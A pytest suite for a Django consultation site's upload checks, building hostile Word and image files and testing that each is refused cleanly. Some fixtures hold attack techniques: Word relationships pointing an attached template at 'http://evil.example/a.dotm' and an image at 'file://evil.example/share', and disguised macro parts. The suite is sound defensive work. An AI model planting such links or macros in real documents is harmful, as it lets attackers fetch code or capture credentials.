"""A corpus of hostile files, made by code: each is taken or refused, never a 500."""

import contextlib
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from consultations.comments.attachments import WORD, checked, kind_of
from consultations.comments.pictures import Refused, redrawn
from consultations.drafts.document_import import docx_safety
from consultations.drafts.document_import.limits import Limits
from consultations.drafts.document_import.limits import Refused as DraftRefused
from tests import make

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def types(more=""):
    return (
        f'<Types xmlns="{TYPES}"><Override PartName="/word/document.xml" '
        f'ContentType="{MAIN}.document.main+xml"/>{more}</Types>'
    )


def rels(kind, target, mode="External"):
    return (
        f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def word(**parts):
    """Make a Word file; `parts` replace or add to its parts, by name with / as __."""
    known = {
        "[Content_Types].xml": types(),
        "word/document.xml": f'<w:document xmlns:w="{W}"><w:body/></w:document>',
    }
    known |= {name.replace("__", "/"): part for name, part in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, part in known.items():
            archive.writestr(name, part)
    return out.getvalue()


def patched(content, mark, offset, value):
    """Change bytes after each place of a mark in a zip file."""
    changed, at = bytearray(content), content.find(mark)
    while at >= 0:
        changed[at + offset : at + offset + len(value)] = value
        at = content.find(mark, at + 1)
    return bytes(changed)


def picture(kind, **options):
    out = io.BytesIO()
    frame = Image.new("RGB", (40, 30), "red")
    frame.save(out, kind, **options)
    return out.getvalue()


MPO = picture("MPO", save_all=True, append_images=[Image.new("RGB", (40, 30))])
VBA = "application/vnd.ms-office.vbaProject"
REFUSED = {
    "directory of version 9.9": patched(word(), b"PK\x01\x02", 6, b"\x63\x00"),
    "parts of version 9.9": patched(
        patched(word(), b"PK\x03\x04", 4, b"\x63\x00"), b"PK\x01\x02", 6, b"\x63\x00"
    ),
    "an unknown way of packing": patched(
        patched(word(), b"PK\x01\x02", 10, b"\x63\x00"), b"PK\x03\x04", 8, b"\x63\x00"
    ),
    "locked parts": patched(
        patched(word(), b"PK\x01\x02", 8, b"\x01\x00"), b"PK\x03\x04", 6, b"\x01\x00"
    ),
    "cut short": word()[:-30],
    "macros": word(
        **{
            "[Content_Types].xml": types(
                f'<Default Extension="bin" ContentType="{VBA}"/>'
            )
        }
    ),
    "macros under another name": word(
        **{
            "[Content_Types].xml": types(
                f'<Override PartName="/word/notes.xml" ContentType="{VBA.upper()}"/>'
            ),
            "word/notes.xml": "\xd0\xcf",
        }
    ),
    "macros by relationship": word(
        word___rels__document_xml=rels("x", "y"),
        **{
            "word/_rels/document.xml.rels": rels(
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "notes.bin",
                "Internal",
            )
        },
    ),
    "a document that runs macros": word(
        **{
            "[Content_Types].xml": types().replace(
                f"{MAIN}.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        }
    ),
    "a template elsewhere": word(
        **{
            "word/_rels/settings.xml.rels": rels(
                f"{OFFICE}/attachedTemplate", "http://evil.example/a.dotm"
            )
        }
    ),
    "a template elsewhere, in UTF-16": word(
        **{
            "word/_rels/settings.xml.rels": rels(
                f"{OFFICE}/attachedTemplate", "http://evil.example/a.dotm"
            ).encode("utf-16")
        }
    ),
    "a picture elsewhere": word(
        **{
            "word/_rels/document.xml.rels": rels(
                f"{OFFICE}/image", "file://evil.example/share"
            )
        }
    ),
    "relationships that are no XML": word(**{"word/_rels/document.xml.rels": "<"}),
    "a spreadsheet": word(**{"[Content_Types].xml": "<x/>"}).replace(
        b"word/document.xml", b"xl00/workbook.xml"
    ),
    "nothing": b"",
    "a picture of no kind": b"GIF89a",
    "a torn JPEG": b"\xff\xd8\xff",
}


def upload(content, name="a.docx"):
    return SimpleUploadedFile(name, content)


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_file_is_refused_in_a_sentence(name):
    with pytest.raises(ValidationError, match="is not a PDF, a Word file"):
        checked(upload(REFUSED[name]))


def test_a_word_file_with_links_to_follow_is_taken():
    linked = rels(f"{OFFICE}/hyperlink", "https://council.example/")
    parts = {"word/_rels/document.xml.rels": linked}
    assert kind_of(word(**parts)) == kind_of(word()) == WORD


def test_a_photo_that_a_phone_writes_as_two_is_taken_and_drawn_as_one():
    assert checked(upload(MPO, "phone.jpg"))[1] == "image/jpeg"
    with Image.open(io.BytesIO(redrawn(MPO, "image/jpeg"))) as drawn:
        assert (drawn.format, getattr(drawn, "n_frames", 1)) == ("JPEG", 1)


@pytest.mark.django_db
def test_a_comment_with_a_hostile_file_is_answered_and_its_words_are_kept(client):
    consultation = make.consultation()
    path = f"/consultations/{consultation.reference}/respond/"
    for content in [*REFUSED.values(), MPO]:
        said = {"role": "resident", "public_name": "Jo", "email": "jo@example.org"}
        said |= {"overall": "More benches.", "files": upload(content)}
        response = client.post(path, said)
        assert response.status_code < 500


@given(st.binary(max_size=400), st.integers(0, 2_000), st.sampled_from(["zip", "jpg"]))
def test_no_change_of_bytes_stops_the_door(noise, at, kind):
    good = word() if kind == "zip" else MPO
    changed = good[:at] + noise + good[at + len(noise) :]
    for content in (changed, noise, b"PK\x03\x04" + noise, b"RIFF" + noise):
        with contextlib.suppress(ValidationError):
            checked(upload(content))


@given(st.binary(max_size=300), st.integers(0, 1_500))
def test_no_change_of_bytes_stops_the_reading_of_a_draft(noise, at):
    good = word()
    limits = Limits(file_bytes=10_000_000, sections=400, markdown_characters=300_000)
    with contextlib.suppress(DraftRefused):
        docx_safety.open_package(good[:at] + noise + good[at + len(noise) :], limits)


@pytest.mark.parametrize("name", ["macros", "macros under another name"])
def test_a_draft_with_macros_under_any_name_is_refused(name):
    limits = Limits(file_bytes=10_000_000, sections=400, markdown_characters=300_000)
    with pytest.raises(DraftRefused):
        docx_safety.open_package(REFUSED[name], limits)


def test_a_picture_that_is_none_is_refused_by_who_draws_it():
    with pytest.raises(Refused):
        redrawn(b"\xff\xd8\xff" + b"\x00" * 100, "image/jpeg")
